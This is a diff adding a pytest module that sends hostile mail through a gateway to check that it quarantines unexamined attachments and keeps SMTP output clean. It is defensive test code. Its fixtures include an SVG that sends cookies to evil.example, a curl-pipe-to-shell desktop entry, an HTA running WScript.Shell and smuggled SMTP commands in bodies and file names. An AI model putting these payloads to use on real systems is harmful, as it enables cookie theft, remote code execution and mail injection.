@@ -1,0 +1,796 @@
+"""Fail open on availability, closed on content (issue 14): hostile mail.
+
+Each test sends one hostile message (and its neighbours: the shapes that
+would slip past the check the first one needs) with smtplib or a raw socket
+into a real gateway, which delivers to a raw SMTP sink that records the
+bytes as they came over the wire (``hostile_messages.RawSink``).  What the
+fixed gateway must do with a part it did not or could not examine (beyond a
+limit, unparseable, ambiguous, inside something it cannot open): never
+hand it to an agent as a file; put a notice naming the file and the reason
+in its place; keep its bytes in quarantine; audit ``FileRefused``; send the
+automatic reply; and still deliver the readable text.  Every byte it writes
+is CRLF-only, without NUL.
+
+``fail_closed`` checks all of that for one message and reports every
+problem at once, so a failing test says everything that is wrong with it.
+"""
+from __future__ import annotations
+
+import base64
+import itertools
+import re
+import smtplib
+import socket
+import threading
+import time
+from pathlib import Path
+from typing import Any, Callable, Iterator
+
+import pytest
+
+from tests.harness import GatewayProcess
+from tests.hostile_messages import (BIDI, CRLF, DOCM_TYPE, DOCX_TYPE, ONENOTE_MAGIC, OLE_MAGIC, TNEF_MAGIC,
+                                    XLSM_TYPE, Case, RawSink, Transaction, b64, b64head, dangers, envelope_message,
+                                    multipart, ooxml, part, pe, quarantined, readable_text, rfc2231, text,
+                                    uuencode, zip_of)
+
+# The fixed config's key, under a route's ``customer_id`` table, naming the
+# networks whose customer-id header is believed (the lead may rename it).
+TRUSTED_NETWORKS_KEY = "trusted_networks"
+# Small bounds, so that a message beyond each is cheap to build.
+LIMITS: dict[str, Any] = {"max_mime_depth": 6, "max_parts": 40, "max_header_line": 4096,
+                          "max_header_fields": 60, "max_header_bytes": 32768}
+THRESHOLD = 20_000  # offload_threshold: a 30 kB PDF is offloaded (a link appended)
+
+_ids = itertools.count()
+
+
+def autoreply(sink: RawSink) -> dict[str, Any]:
+    return {"autoreply": {"from": "Support <support@contact.example>", "next_hop": f"smtp://127.0.0.1:{sink.port}",
+                          "interval": "1h"}}
+
+
+@pytest.fixture(scope="module")
+def raw_sink() -> Iterator[RawSink]:
+    s = RawSink().start()
+    yield s
+    s.stop()
+
+
+@pytest.fixture(scope="module")
+def gw(tmp_path_factory: pytest.TempPathFactory, raw_sink: RawSink) -> Iterator[GatewayProcess]:
+    """One gateway for the module: one process (so a blocked event loop
+    would show), the small limits, an auto-reply, the raw sink as next hop."""
+    with GatewayProcess(tmp_path_factory.mktemp("hostile"), next_hop=f"smtp://127.0.0.1:{raw_sink.port}",
+                        threshold=THRESHOLD, route={"tls": "none", **autoreply(raw_sink)},
+                        sections={"gateway": {"processes": 1}, "worker": LIMITS}) as g:
+        yield g
+
+
+class Mail:
+    """Addresses and a subject unique to one message, so each test finds
+    its own delivery, auto-reply and audit events on the shared gateway."""
+
+    def __init__(self, tag: str) -> None:
+        n = next(_ids)
+        safe = re.sub(r"[^a-z0-9]+", "-", tag.lower()).strip("-")[:40]
+        self.tag = f"{safe}-{n}"
+        self.sender = f"c-{self.tag}@example.net"
+        self.rcpt = f"h-{self.tag}@contact.example"
+        self.readable = f"Readable text {self.tag}: please look at my claim."
+
+    def body(self) -> bytes:
+        return text(self.readable)
+
+    def html(self) -> bytes:
+        return text(f"<html><body><p>{self.readable}</p></body></html>", "text/html; charset=utf-8")
+
+    def build(self, root: bytes, extra: list[str] = ()) -> bytes:
+        return envelope_message(root, self.sender, self.rcpt, f"hostile {self.tag}", list(extra))
+
+    def case(self, root: bytes, files: list[bytes] = (), markers: list[bytes] = (), name: str | None = None,
+             extra: list[str] = ()) -> Case:
+        return Case(self.build(root, extra), self.readable, list(files), list(markers), name)
+
+
+def submit(port: int, sender: str, rcpt: str, data: bytes) -> str:
+    """Send over SMTP; the queue id from the 250 reply."""
+    with smtplib.SMTP("127.0.0.1", port, timeout=60) as s:
+        s.ehlo()
+        s.mail(sender)
+        code, msg = s.rcpt(rcpt)
+        assert code == 250, (code, msg)
+        code, msg = s.data(data)
+        if code != 250:
+            raise smtplib.SMTPDataError(code, msg)
+    m = re.search(rb"queued as (\w+)", msg)
+    assert m, msg
+    return m.group(1).decode()
+
+
+def held(gw: GatewayProcess, qid: str) -> str | None:
+    """Why the message is held, or None."""
+    d = gw.spool / "hold" / qid
+    if d.exists():
+        state = d / "state.json"
+        return f"held: {state.read_text() if state.exists() else '(no state)'}"
+    return None
+
+
+def wire_problems(tx: Transaction) -> list[str]:
+    """What is wrong with the bytes on the wire."""
+    out = []
+    if b"\x00" in tx.wire:
+        out.append("NUL on the wire")
+    rest = tx.wire.replace(b"\r\n", b"")
+    if b"\r" in rest:
+        out.append("bare CR on the wire: %r" % _around(tx.wire, _bare(tx.wire, b"\r")))
+    if b"\n" in rest:
+        out.append("bare LF on the wire: %r" % _around(tx.wire, _bare(tx.wire, b"\n")))
+    if b"." in tx.data.split(b"\r\n"):
+        out.append("a line holding a single '.' in the delivered message")
+    return out
+
+
+def _bare(data: bytes, ch: bytes) -> int:
+    for m in re.finditer(re.escape(ch), data):
+        i = m.start()
+        if ch == b"\r" and data[i + 1:i + 2] != b"\n":
+            return i
+        if ch == b"\n" and (i == 0 or data[i - 1:i] != b"\r"):
+            return i
+    return -1
+
+
+def _around(data: bytes, i: int) -> bytes:
+    return data[max(0, i - 40):i + 40]
+
+
+def deliver(gw: GatewayProcess, sink: RawSink, mail: Mail, raw: bytes) -> tuple[str, Transaction]:
+    qid = submit(gw.smtp_port, mail.sender, mail.rcpt, raw)
+    [tx] = sink.wait_for(mail.rcpt, give_up=lambda: held(gw, qid))
+    return qid, tx
+
+
+def fail_closed(gw: GatewayProcess, sink: RawSink, mail: Mail, case: Case, refused: bool = True) -> str:
+    """Send ``case``; assert every part of the rule on what arrived; the
+    queue id."""
+    qid, tx = deliver(gw, sink, mail, case.raw)
+    problems = wire_problems(tx)
+    if any(b"evil" in c.lower() for c in sink.commands):
+        problems.append("a smuggled command reached the next hop")
+    problems += dangers(tx.data, case.markers)
+    for f in case.files:
+        if b64head(f) in tx.wire or f[-40:] in tx.wire:
+            problems.append(f"the hostile file ({len(f)} bytes, {f[:8]!r}...) is on the wire")
+    shown = readable_text(tx.data)
+    if case.readable and case.readable not in shown:
+        problems.append("the readable text did not arrive")
+    if case.name is not None and case.name not in shown:
+        problems.append(f"no notice names {case.name!r}")
+    if refused:
+        for f in case.files:
+            if not quarantined(gw.objects, f):
+                problems.append(f"the hostile file ({len(f)} bytes, {f[:8]!r}...) is not in quarantine")
+        events = _wait(lambda: [e for e in gw.audit() if e.get("EventType") == "FileRefused"
+                                and e.get("QueueId") == qid], 1.0)
+        if not events:
+            problems.append("no FileRefused audit event")
+        elif not _wait(lambda: [t for t in sink.for_rcpt(mail.sender) if t.mail_from == "<>"], 10.0):
+            problems.append("no automatic reply to the sender")
+    assert problems == [], f"{mail.tag} (queue id {qid}):\n  " + "\n  ".join(problems)
+    return qid
+
+
+def _wait(fn: Callable[[], list[Any]], timeout: float) -> list[Any]:
+    deadline = time.monotonic() + timeout
+    while True:
+        got = fn()
+        if got or time.monotonic() > deadline:
+            return got
+        time.sleep(0.05)
+
+
+EXE_NAMES = [("invoice.exe", "application/octet-stream"), ("invoice.pdf", "application/pdf")]
+
+
+# ------------------------------------------------------------ outbound smuggling
+
+
+SMUGGLE_QP = b"hello=0D.=0D=0AMAIL FROM:<x@evil>=0D=0ARCPT TO:<victim@contact.example>=0D=0A"
+
+
+@pytest.mark.parametrize("shape", ["html-qp", "plain-qp", "plain-qp-lf", "plain-b64", "html-qp-offloaded"])
+def test_an_encoded_cr_dot_in_a_rewritten_body_stays_encoded(gw: GatewayProcess, raw_sink: RawSink,
+                                                             shape: str) -> None:
+    """The body is rewritten (a notice or link appended): what it decodes to
+    must not reach the wire as a bare CR, a bare LF or a lone dot line."""
+    mail = Mail(f"smuggle-{shape}")
+    payload = {"html-qp": b"<p>" + SMUGGLE_QP + b"</p>", "plain-qp": SMUGGLE_QP,
+               "plain-qp-lf": b"hello=0A.=0AMAIL FROM:<x@evil>=0A", "plain-b64": b"",
+               "html-qp-offloaded": b"<p>" + SMUGGLE_QP + b"</p>"}[shape]
+    ctype = "text/html; charset=utf-8" if shape.startswith("html") else "text/plain; charset=utf-8"
+    if shape == "plain-b64":
+        body = part(ctype, b"hello\r.\r\nMAIL FROM:<x@evil>\r\n.\r\n" + mail.readable.encode() + b"\n", "base64")
+    else:
+        body = (f"Content-Type: {ctype}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n".encode()
+                + mail.readable.encode() + b"=0D=0A" + payload + b"\r\n")
+    exe = pe(mail.tag)
+    if shape.endswith("offloaded"):
+        att = part("application/pdf", b"%PDF-1.4\n" + exe[2:] * 15, name="big.pdf")
+        fail_closed(gw, raw_sink, mail, mail.case(multipart([body, att])), refused=False)
+    else:
+        fail_closed(gw, raw_sink, mail, mail.case(multipart([body, part("application/octet-stream", exe,
+                                                                        name="setup.exe")]),
+                                                  files=[exe], name="setup.exe"))
+
+
+CRAFTED_NAME = "a\r\n.\r\nMAIL FROM:<x@evil>\r\n\x00b.exe"
+
+
+@pytest.mark.parametrize("charset,cte", [("utf-16", "8bit"), ("utf-16", "binary"), ("utf-16-le", "8bit"),
+                                         ("utf-16-be", "binary"), ("cp500", "8bit"), ("cp1026", "8bit"),
+                                         ("utf-32", "base64"), ("utf-7", "7bit")])
+def test_a_refusal_notice_in_a_non_ascii_compatible_body_is_crlf_clean(gw: GatewayProcess, raw_sink: RawSink,
+                                                                       charset: str, cte: str) -> None:
+    """A notice appended to a UTF-16 or EBCDIC body, naming a file whose
+    name holds CR, LF, NUL and an SMTP command: none of it raw on the wire."""
+    mail = Mail(f"charset-{charset}-{cte}")
+    if charset.startswith("utf-16"):
+        # CJK code units have no 00, 0A or 0D byte: the 8bit body is one
+        # line without NUL, as a client could send it.
+        words = "\u4e2d\u6587\u5185\u5bb9\u6d4b\u8bd5" * 8
+        enc = "utf-16-le" if charset == "utf-16" else charset
+        encoded = (b"\xff\xfe" if charset == "utf-16" else b"") + words.encode(enc)
+        assert not set(encoded) & {0, 10, 13}
+        readable = words
+    else:
+        readable = mail.readable
+        encoded = readable.encode(charset)
+    body = part(f"text/plain; charset={charset}", encoded + (b"" if cte == "base64" else CRLF), cte=cte)
+    exe = pe(mail.tag)
+    case = mail.case(multipart([body, part("application/octet-stream", exe, raw_name=rfc2231(CRAFTED_NAME))]),
+                     files=[exe])
+    case.readable = readable
+    fail_closed(gw, raw_sink, mail, case)
+
+
+@pytest.mark.parametrize("where", ["header", "body", "end-of-line", "after-dot-line"])
+def test_nul_in_data_is_refused_at_the_end_of_data(gw: GatewayProcess, raw_sink: RawSink, where: str) -> None:
+    mail = Mail(f"nul-{where}")
+    raw = mail.build(mail.body())
+    raw = {"header": raw.replace(b"Subject: ", b"Subject: \x00", 1),
+           "body": raw.replace(b"please", b"ple\x00ase"),
+           "end-of-line": raw.replace(b"claim.\r\n", b"claim.\x00\r\n"),
+           "after-dot-line": raw + b"..\x00\r\n"}[where]
+    with pytest.raises(smtplib.SMTPDataError) as e:
+        submit(gw.smtp_port, mail.sender, mail.rcpt, raw)
+    assert 500 <= e.value.smtp_code < 600, e.value
+    gw.wait_idle()
+    assert raw_sink.for_rcpt(mail.rcpt) == []
+
+
+# ------------------------------------------------------------ limits
+
+
+def _nest(inner: list[bytes], depth: int) -> bytes:
+    entity = multipart(inner, boundary=f"d{depth}")
+    for d in range(depth - 1, 0, -1):
+        entity = multipart([entity], boundary=f"d{d}")
+    return entity
+
+
+@pytest.mark.parametrize("name,ctype", EXE_NAMES, ids=["exe", "pdf"])
+@pytest.mark.parametrize("bound", ["depth", "parts", "header-line", "header-line-before", "header-fields",
+                                   "header-fields-before", "header-bytes"])
+def test_an_executable_behind_a_limit_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, bound: str,
+                                                       name: str, ctype: str) -> None:
+    mail = Mail(f"limit-{bound}-{name}")
+    exe = pe(mail.tag)
+    pad = "X-Pad: " + "a" * (LIMITS["max_header_line"] + 100)
+    fields = [f"X-Field-{i}: {i}" for i in range(LIMITS["max_header_fields"] + 5)]
+    folded = ["X-Folded: start" + "".join(f"\r\n {'b' * 60}" for _ in range(LIMITS["max_header_bytes"] // 60 + 10))]
+    exe_part = part(ctype, exe, name=name)
+    filler = part("text/plain", b"filler\r\n", cte="7bit", name="notes.txt")
+    if bound == "depth":
+        root = multipart([mail.body(), _nest([exe_part], LIMITS["max_mime_depth"] + 2)], boundary="top")
+    elif bound == "parts":
+        root = multipart([mail.body()] + [filler] * (LIMITS["max_parts"] + 5) + [exe_part])
+    elif bound == "header-line":
+        root = multipart([mail.body(), part(ctype, exe, name=name, extra=[pad])])
+    elif bound == "header-line-before":
+        root = multipart([mail.body(), part("text/plain", b"x\r\n", cte="7bit", name="a.txt", extra=[pad]), exe_part])
+    elif bound == "header-fields":
+        root = multipart([mail.body(), part(ctype, exe, name=name, extra=fields)])
+    elif bound == "header-fields-before":
+        root = multipart([mail.body(), part("text/plain", b"x\r\n", cte="7bit", name="a.txt", extra=fields),
+                          exe_part])
+    else:
+        root = multipart([mail.body(), part(ctype, exe, name=name, extra=folded)])
+    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe]))
+
+
+# ------------------------------------------------------------ parts never examined
+
+
+def _inner_message(tag: str, exe: bytes, name: str = "payload.exe") -> bytes:
+    return envelope_message(multipart([text(f"inner {tag}"), part("application/octet-stream", exe, name=name)],
+                                      boundary="inner"), "someone@example.org", "customer@example.net", "fwd")
+
+
+@pytest.mark.parametrize("shape", ["rfc822", "global", "rfc822-base64", "rfc822-nested", "rfc822-as-zip",
+                                   "multipart-no-boundary-zip"])
+def test_an_executable_inside_an_attached_message_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink,
+                                                                    shape: str) -> None:
+    mail = Mail(f"inner-{shape}")
+    exe = pe(mail.tag)
+    inner = _inner_message(mail.tag, exe)
+    files: list[bytes] = [exe]
+    if shape == "rfc822":
+        att = part("message/rfc822", inner, cte="7bit", name="fwd.eml")
+    elif shape == "global":
+        att = part("message/global", inner, cte="8bit", name="fwd.u8msg")
+    elif shape == "rfc822-base64":
+        att = part("message/rfc822", inner, cte="base64", name="fwd.eml")
+    elif shape == "rfc822-nested":
+        outer = envelope_message(multipart([text("outer"), part("message/rfc822", inner, cte="7bit")],
+                                           boundary="outer"), "a@example.org", "b@example.org", "fwd fwd")
+        att = part("message/rfc822", outer, cte="7bit", name="fwd.eml")
+    elif shape == "rfc822-as-zip":
+        z = zip_of([("readme.txt", b"hi"), ("setup.exe", exe)])
+        att, files = part("message/rfc822", z, cte="base64", name="fwd.eml"), [z]
+    else:
+        z = zip_of([("readme.txt", b"hi"), ("setup.exe", exe)])
+        att, files = part("multipart/mixed", z, cte="base64", name="docs.zip"), [z]
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), att]), files=files))
+
+
+@pytest.mark.parametrize("shape", ["zip-as-pkcs7", "ole-doc-as-pkcs7", "onenote-as-pkcs7", "zip-as-pgp",
+                                   "exe-as-signature-in-signed"])
+def test_a_file_declared_as_a_signature_is_examined(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
+    mail = Mail(f"sig-{shape}")
+    exe = pe(mail.tag)
+    blob = {"zip-as-pkcs7": zip_of([("setup.exe", exe)]), "zip-as-pgp": zip_of([("setup.exe", exe)]),
+            "ole-doc-as-pkcs7": OLE_MAGIC + bytes(504) + mail.tag.encode() * 40,
+            "onenote-as-pkcs7": ONENOTE_MAGIC + bytes(100) + mail.tag.encode() * 40,
+            "exe-as-signature-in-signed": exe}[shape]
+    ctype = "application/pgp-signature" if shape == "zip-as-pgp" else "application/pkcs7-signature"
+    sig = part(ctype, blob, name="smime.p7s" if "pgp" not in shape else "signature.asc")
+    if shape == "exe-as-signature-in-signed":
+        root = multipart([mail.body(), sig], subtype="signed", boundary="sig",
+                         params='protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig"')
+    else:
+        root = multipart([mail.body(), sig])
+    fail_closed(gw, raw_sink, mail, mail.case(root, files=[blob]))
+
+
+@pytest.mark.parametrize("shape", ["two-boundaries", "two-boundaries-reversed", "two-content-types",
+                                   "two-transfer-encodings", "base64-multipart"])
+def test_an_ambiguous_structure_hides_nothing(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
+    """Where parsers may disagree (which boundary, which Content-Type, which
+    encoding), the part one reading hides is not delivered to the other."""
+    mail = Mail(f"ambiguous-{shape}")
+    exe = pe(mail.tag)
+    exe_part = part("application/octet-stream", exe, name="setup.exe")
+    if shape == "two-boundaries":
+        root = multipart([mail.body(), exe_part], params='boundary="AAA"; boundary="BBB"', separator="BBB")
+    elif shape == "two-boundaries-reversed":
+        root = multipart([mail.body(), exe_part], params='boundary="BBB"; boundary="AAA"', separator="BBB")
+    elif shape == "two-content-types":
+        root = b"Content-Type: text/plain; charset=utf-8\r\n" + multipart([mail.body(), exe_part])
+    elif shape == "base64-multipart":
+        # A multipart may not be encoded (RFC 2045 6.4); Python ignores the
+        # encoding and finds no parts, a client that decodes first finds two.
+        inner = multipart([mail.body(), exe_part], boundary="enc")
+        head, _, body = inner.partition(b"\r\n\r\n")
+        root = head + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(body)
+        case = mail.case(root, files=[body])
+        case.readable = ""
+        fail_closed(gw, raw_sink, mail, case)
+        return
+    else:
+        # The first Content-Transfer-Encoding says 7bit (the base64 text is
+        # harmless), the second base64 (it is a program).
+        att = part("application/octet-stream", exe, name="setup.exe", cte="",
+                   extra=["Content-Transfer-Encoding: 7bit", "Content-Transfer-Encoding: base64"])
+        att = att.replace(b"\r\n\r\n", b"\r\n\r\n" + b64(exe), 1)
+        root = multipart([mail.body(), att])
+    case = mail.case(root, files=[exe])
+    if shape != "two-transfer-encodings":
+        # Which reading holds the text is the ambiguity itself: refusing the
+        # whole entity, text and all, is failing closed too.
+        case.readable = ""
+    fail_closed(gw, raw_sink, mail, case)
+
+
+@pytest.mark.parametrize("shape", ["in-text-body", "in-base64-text-body", "x-uuencode-part"])
+def test_a_uuencoded_executable_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, shape: str) -> None:
+    mail = Mail(f"uu-{shape}")
+    exe = pe(mail.tag)
+    uu = uuencode(exe, "setup.exe")
+    first_line = uu.split(CRLF)[1]
+    readable = (mail.readable + "\r\n\r\n").encode()
+    if shape == "in-text-body":
+        root = part("text/plain; charset=us-ascii", readable + uu, cte="7bit")
+    elif shape == "in-base64-text-body":
+        root = part("text/plain; charset=us-ascii", readable + uu, cte="base64")
+    else:
+        att = part("application/octet-stream", uu, cte="", name="setup.dat",
+                   extra=["Content-Transfer-Encoding: x-uuencode"])
+        root = multipart([mail.body(), att])
+    case = mail.case(root, files=[exe], markers=[first_line])
+    case.files = []  # the uuencoded text is not base64 on the wire: its first line is the marker
+    fail_closed(gw, raw_sink, mail, case)
+    assert quarantined(gw.objects, exe) or quarantined(gw.objects, uu), "the uuencoded file is not in quarantine"
+
+
+@pytest.mark.parametrize("ctype,name", [("application/ms-tnef", "winmail.dat"),
+                                        ("application/octet-stream", "winmail.dat"),
+                                        ("application/vnd.ms-tnef", "message.dat")])
+def test_a_tnef_that_does_not_unpack_is_not_delivered(gw: GatewayProcess, raw_sink: RawSink, ctype: str,
+                                                      name: str) -> None:
+    mail = Mail(f"tnef-{ctype}-{name}")
+    exe = pe(mail.tag)
+    blob = TNEF_MAGIC + b"\x01\x00\xff\xff garbage " + exe
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]), files=[blob]))
+
+
+# ------------------------------------------------------------ office and text
+
+
+@pytest.mark.parametrize("shape", ["docm", "docm-named-docx", "xlsm", "docx-with-exe-entry"])
+def test_macro_documents_and_polyglot_office_files_are_refused(gw: GatewayProcess, raw_sink: RawSink,
+                                                              shape: str) -> None:
+    mail = Mail(f"office-{shape}")
+    if shape == "docm":
+        blob, ctype, name = ooxml("word", mail.tag, macros=True), DOCM_TYPE, "report.docm"
+    elif shape == "docm-named-docx":
+        blob, ctype, name = ooxml("word", mail.tag, macros=True), DOCX_TYPE, "report.docx"
+    elif shape == "xlsm":
+        blob, ctype, name = ooxml("xl", mail.tag, macros=True), XLSM_TYPE, "figures.xlsm"
+    else:
+        blob, ctype, name = ooxml("word", mail.tag, extra=[("word/media/setup.exe", pe(mail.tag))]), DOCX_TYPE, \
+            "contract.docx"
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
+                                              files=[blob], name=name))
+
+
+SVG_BODY = '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//evil.example/\'+document.cookie)"><rect/></svg>'
+
+
+@pytest.mark.parametrize("prefix", ['<?xml version="1.0" encoding="UTF-8"?>\n', "<!-- logo -->\n",
+                                    "\n\n   \t", '<?xml version="1.0"?>\n<!DOCTYPE svg>\n'],
+                         ids=["prolog", "comment", "whitespace", "doctype"])
+@pytest.mark.parametrize("name,ctype", [("logo.svg", "image/svg+xml"), ("logo.txt", "text/plain")],
+                         ids=["svg", "txt"])
+def test_an_svg_with_script_is_refused_whatever_comes_first(gw: GatewayProcess, raw_sink: RawSink, prefix: str,
+                                                            name: str, ctype: str) -> None:
+    mail = Mail(f"svg-{name}-{len(prefix)}")
+    blob = (prefix + SVG_BODY + f"<!-- {mail.tag} -->\n").encode()
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part(ctype, blob, name=name)]),
+                                              files=[blob], name=name))
+
+
+ACTIVE_TEXT = {
+    "query.iqy": b"WEB\r\n1\r\nhttp://evil.example/q?x=[\"x\"]\r\n",
+    "portal.url": b"[InternetShortcut]\r\nURL=file://evil.example/share/setup.exe\r\n",
+    "report.desktop": b"[Desktop Entry]\r\nType=Application\r\nName=Report\r\nExec=sh -c 'curl evil.example|sh'\r\n",
+    "update.hta": b"<html><head><HTA:APPLICATION ID=\"u\"></head><script>new ActiveXObject('WScript.Shell')"
+                  b".Run('calc')</script></html>\r\n",
+}
+
+
+@pytest.mark.parametrize("name", list(ACTIVE_TEXT))
+def test_active_text_files_are_refused(gw: GatewayProcess, raw_sink: RawSink, name: str) -> None:
+    mail = Mail(f"active-{name}")
+    blob = ACTIVE_TEXT[name] + f"; {mail.tag}\r\n".encode()
+    fail_closed(gw, raw_sink, mail, mail.case(multipart([mail.body(), part("text/plain", blob, name=name)]),
+                                              files=[blob], name=name))
+
+
+# ------------------------------------------------------------ one email stops the gateway
+
+
+def _ehlo_time(port: int, timeout: float = 2.0) -> float:
+    """Seconds from connect to the end of the EHLO reply; ``timeout`` (or
+    more) when the gateway did not answer in time."""
+    t0 = time.monotonic()
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
+            f = s.makefile("rb")
+            if not f.readline().startswith(b"220"):
+                return float("inf")
+            s.sendall(b"EHLO probe.example\r\n")
+            while True:
+                line = f.readline()
+                if not line or line[3:4] == b" ":
+                    break
+            elapsed = time.monotonic() - t0
+            s.sendall(b"QUIT\r\n")
+            return elapsed
+    except OSError:  # timed out (socket.timeout is an OSError), refused
+        return max(timeout, time.monotonic() - t0)
+
+
+@pytest.mark.parametrize("shape", ["one-line", "folded"])
+def test_a_million_parameters_neither_stall_the_gateway_nor_take_long(tmp_path: Path, raw_sink: RawSink,
+                                                                      shape: str) -> None:
+    """1 MiB of ';' in a Content-Disposition (on one line, beyond the header
+    line limit; or folded into lines of 1000, within every default limit):
+    processed within seconds, and greetings on another connection stay fast
+    while it is (one process, so a blocked event loop would show)."""
+    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD,
+                       route={"tls": "none", **autoreply(raw_sink)}, sections={"gateway": {"processes": 1}})
+    try:
+        g.start()
+        mail = Mail(f"semicolons-{shape}")
+        exe = pe(mail.tag)
+        params = ";" * (1 << 20) if shape == "one-line" else "\r\n ".join([";" * 1000] * 1000)
+        att = part("application/octet-stream", exe, raw_name='filename="setup.exe"' + params)
+        raw = mail.build(multipart([mail.body(), att]))
+        assert _ehlo_time(g.smtp_port) < 1.0  # warm
+        times: list[float] = []
+        done = threading.Event()
+
+        def probe() -> None:
+            while not done.is_set():
+                times.append(_ehlo_time(g.smtp_port))
+
+        qid = submit(g.smtp_port, mail.sender, mail.rcpt, raw)
+        t0 = time.monotonic()
+        th = threading.Thread(target=probe, daemon=True)
+        th.start()
+        try:
+            got = raw_sink.wait_for(mail.rcpt, timeout=20, give_up=lambda: held(g, qid))
+        except AssertionError as e:
+            got, failure = [], str(e)
+        finally:
+            took = time.monotonic() - t0
+            done.set()
+            th.join(15)
+        slowest = max(times, default=float("inf"))
+        assert got and took < 5.0 and slowest < 0.5, (
+            f"{'not delivered: ' + failure if not got else f'processing took {took:.1f}s'}; "
+            f"{len(times)} greetings meanwhile, the slowest {slowest:.2f}s")
+        [tx] = got
+        # Not parsed here with Python's email package: its parameter parser is
+        # quadratic too (40 s of the test's own time for this header).
+        assert wire_problems(tx) == []
+        assert b64head(exe) not in tx.wire and exe[-40:] not in tx.wire, "the program was delivered"
+        assert mail.readable.encode() in tx.data
+        assert quarantined(g.objects, exe)
+    finally:
+        g.kill()  # a gateway stuck on the message would take 70 s to stop
+
+
+@pytest.mark.parametrize("charset", ["undefined", "idna", "unknown-8bit", "x-unknown"])
+def test_an_unusable_body_charset_with_a_refusal_is_delivered_not_held(gw: GatewayProcess, raw_sink: RawSink,
+                                                                       charset: str) -> None:
+    mail = Mail(f"charset-{charset}")
+    exe = pe(mail.tag)
+    body = part(f"text/plain; charset={charset}", mail.readable.encode() + CRLF, cte="8bit")
+    html = part(f"text/html; charset={charset}", f"<p>{mail.readable}</p>".encode() + CRLF, cte="8bit")
+    root = multipart([multipart([body, html], subtype="alternative", boundary="alt"),
+                      part("application/octet-stream", exe, name="setup.exe")])
+    qid = fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe], name="setup.exe"))
+    assert held(gw, qid) is None
+    listed = gw.command("queue", "list", "--json")
+    assert listed.returncode == 0, listed.stderr
+    assert mail.rcpt not in listed.stdout
+
+
+# ------------------------------------------------------------ the sender chooses the customer
+
+
+def test_a_customer_id_header_from_an_untrusted_client_does_not_choose_the_folder(tmp_path: Path,
+                                                                                   raw_sink: RawSink) -> None:
+    route = {"tls": "none", **autoreply(raw_sink),
+             "customer_id": {"header": "X-CustomerId", "fallback": "sender", TRUSTED_NETWORKS_KEY: ["192.0.2.0/24"]}}
+    g = GatewayProcess(tmp_path, next_hop=f"smtp://127.0.0.1:{raw_sink.port}", threshold=THRESHOLD, route=route)
+    try:
+        g.start()
+        mail = Mail("customer-id")
+        exe = pe(mail.tag)
+        big = b"%PDF-1.4\n" + pe(mail.tag + "pdf", 30_000)[2:]
+        root = multipart([mail.body(), part("application/octet-stream", exe, name="setup.exe"),
+                          part("application/pdf", big, name="big.pdf")])
+        fail_closed(g, raw_sink, mail, mail.case(root, files=[exe], extra=["X-CustomerId: victim-123"]))
+        keys = [p.relative_to(g.objects).as_posix() for p in g.objects.rglob("*") if p.is_file()]
+        assert any(k.startswith("quarantine/") for k in keys) and any(k.startswith("uploads/") for k in keys), keys
+        assert not [k for k in keys if "victim-123" in k], keys
+    finally:
+        g.stop()  # also when it did not start: closes its log
+
+
+@pytest.mark.parametrize("header", ["X-Attachment-Offload: offloaded=0", "x-attachment-offload: refused=0",
+                                    "X-Attachment-Offload:\r\n refused=0 folded"])
+def test_an_inbound_trace_header_does_not_survive_beside_the_gateways(gw: GatewayProcess, raw_sink: RawSink,
+                                                                      header: str) -> None:
+    mail = Mail(f"trace-{header[:22]}")
+    exe = pe(mail.tag)
+    root = multipart([mail.body(), part("application/octet-stream", exe, name="setup.exe")])
+    fail_closed(gw, raw_sink, mail, mail.case(root, files=[exe], extra=[header]))
+    [tx] = raw_sink.for_rcpt(mail.rcpt)
+    head = tx.data.split(b"\r\n\r\n", 1)[0]
+    assert len(re.findall(rb"(?im)^x-attachment-offload:", head)) == 1, head.decode(errors="replace")
+
+
+# ------------------------------------------------------------ address forms
+
+
+class Raw:
+    """A raw SMTP client: exact bytes out, whole replies back."""
+
+    def __init__(self, port: int) -> None:
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+        self.buf = b""
+        self.reply()
+
+    def reply(self) -> bytes:
+        while True:
+            lines = self.buf.split(b"\r\n")
+            for i, line in enumerate(lines[:-1]):
+                if line[3:4] == b" ":
+                    self.buf = b"\r\n".join(lines[i + 1:])
+                    return b"\r\n".join(lines[: i + 1])
+            chunk = self.sock.recv(65536)
+            if not chunk:
+                return b""
+            self.buf += chunk
+
+    def cmd(self, data: bytes) -> bytes:
+        self.sock.sendall(data)
+        return self.reply()
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+@pytest.mark.parametrize("rcpt", [b"support@contact.example..", b"support@contact..example",
+                                  b"support@.contact.example", b"support@contact.example.", b"support.@contact.example",
+                                  b"\xff\xfe@contact.example", b"sup\xc3port@contact.example",
+                                  b"support@contact.exampl\xe9"])
+@pytest.mark.parametrize("smtputf8", [False, True], ids=["ascii", "smtputf8"])
+def test_a_malformed_recipient_is_refused_at_rcpt(gw: GatewayProcess, rcpt: bytes, smtputf8: bool) -> None:
+    c = Raw(gw.smtp_port)
+    try:
+        assert c.cmd(b"EHLO client.example\r\n").startswith(b"250")
+        assert c.cmd(b"MAIL FROM:<customer@example.net>" + (b" SMTPUTF8" if smtputf8 else b"") + b"\r\n") \
+            .startswith(b"250")
+        reply = c.cmd(b"RCPT TO:<" + rcpt + b">\r\n")
+        assert reply[:1] == b"5", reply
+        assert reply[:3] in (b"501", b"553", b"550"), reply
+    finally:
+        c.close()
+
+
